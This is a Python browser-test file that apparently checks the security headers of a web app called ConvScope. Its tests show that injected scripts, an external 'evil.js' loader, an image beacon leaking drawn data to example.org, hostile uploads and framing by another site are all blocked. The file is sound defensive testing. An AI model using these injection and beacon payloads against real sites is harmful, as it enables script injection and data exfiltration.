"""Security headers: nothing of ConvScope is held back by them, what is foreign is."""

import io
import urllib.error
import urllib.request
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from PIL import Image
from playwright.sync_api import Browser

from tests.browser.policy import NOTE_VIOLATIONS, watched
from tests.browser.server import Server
from tests.browser.visitor import SEVEN, Visitor, expect, wait_for

Visit = Callable[..., Visitor]


def test_drawing_uploading_and_presenting_work_as_the_policy_has_it(
    server: Server, visit: Visit
) -> None:
    visitor = visit(server, script=NOTE_VIOLATIONS)
    visitor.draw(SEVEN)
    assert visitor.prediction() == "7"
    expect(visitor.page.locator("canvas").first).to_be_visible()
    picture = io.BytesIO()
    Image.new("L", (60, 60), 255).save(picture, "PNG")
    visitor.page.get_by_text("Upload", exact=True).first.click()
    visitor.page.locator(".st-key-upload input[type=file]").set_input_files(
        {"name": "blank.png", "mimeType": "image/png", "buffer": picture.getvalue()}
    )
    expect(visitor.page.locator(".st-key-notice")).to_contain_text("no digit in this picture")
    visitor.page.goto(f"{server.url}/layers?present=1")
    visitor.page.get_by_test_id("present-leave").wait_for(state="attached")
    visitor.wait_until_painted()
    assert watched(visitor) == []


@pytest.mark.parametrize("lesson", [3, 10])
def test_lessons_and_models_work_as_the_policy_has_it(
    server: Server, visit: Visit, lesson: int
) -> None:
    visitor = visit(server, f"lessons?lesson={lesson}&card=2", script=NOTE_VIOLATIONS)
    visitor.wait_until_painted()
    assert watched(visitor) == []
    visitor.page.goto(f"{server.url}/architectures")
    visitor.page.get_by_role("radio", name="Open your own").click()
    visitor.page.locator(".st-key-own-model input[type=file]").set_input_files(
        {"name": "evil.keras", "mimeType": "application/zip", "buffer": b"evil"}
    )
    visitor.page.locator(".st-key-own-model-open button").click()
    expect(visitor.page.locator(".st-key-own-model-refusal")).to_contain_text("no .keras file")
    assert watched(visitor) == []


def test_a_script_that_somebody_smuggles_in_does_not_run(server: Server, visit: Visit) -> None:
    visitor = visit(server, script=NOTE_VIOLATIONS)
    visitor.wait_until_painted()
    visitor.page.evaluate(
        """() => {
          const script = document.createElement('script');
          script.textContent = 'window.smuggled = 1';
          document.body.append(script);
          const button = document.createElement('button');
          button.setAttribute('onclick', 'window.smuggled = 2');
          document.body.append(button);
          button.click();
          const foreign = document.createElement('script');
          foreign.src = 'https://example.org/evil.js';
          document.body.append(foreign);
          new Image().src = 'https://example.org/a.png?what=was+drawn';
        }"""
    )
    wait_for(visitor.page, "window.violations.length >= 4")
    assert visitor.page.evaluate("window.smuggled") is None
    held_back = {violation.split()[0] for violation in watched(visitor)}
    assert held_back == {"script-src-elem", "script-src-attr", "img-src"}
    assert len(visitor.complaints) == len(watched(visitor))  # the browser says each in its console
    visitor.complaints.clear()
    visitor.foreign_requests.clear()  # asked for by what was smuggled in, and never sent


class _Framing(BaseHTTPRequestHandler):
    """Another site, which shows ConvScope in a frame."""

    target = ""

    def do_GET(self) -> None:
        page = f'<title>outer</title><iframe src="{self.target}"></iframe>'.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(page)

    def log_message(self, format: str, *args: object) -> None:
        pass


def test_another_site_cannot_frame_it(server: Server, browser: Browser) -> None:
    outer = ThreadingHTTPServer(("127.0.0.1", 0), type("Of", (_Framing,), {"target": server.url}))
    Thread(target=outer.serve_forever, daemon=True).start()
    context = browser.new_context()
    try:
        page = context.new_page()
        said: list[str] = []
        page.on("console", lambda message: said.append(message.text))
        page.goto(f"http://127.0.0.1:{outer.server_address[1]}/")
        page.wait_for_timeout(1_500)
        assert any("frame-ancestors" in text for text in said), said
        inner = page.frames[1]
        assert inner.locator(".stApp").count() == 0
    finally:
        context.close()
        outer.shutdown()
        outer.server_close()


def test_every_kind_of_answer_has_the_headers(server: Server) -> None:
    for path in ("", "layers", "_stcore/health", "static/nothing.js", "network-view/0/x.js"):
        try:
            with urllib.request.urlopen(f"{server.url}/{path}") as answer:
                headers = answer.headers
        except urllib.error.HTTPError as error:
            headers = error.headers
        assert "frame-ancestors 'self'" in headers["Content-Security-Policy"]
        assert headers["X-Frame-Options"] == "SAMEORIGIN"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
        assert "camera=()" in headers["Permissions-Policy"]
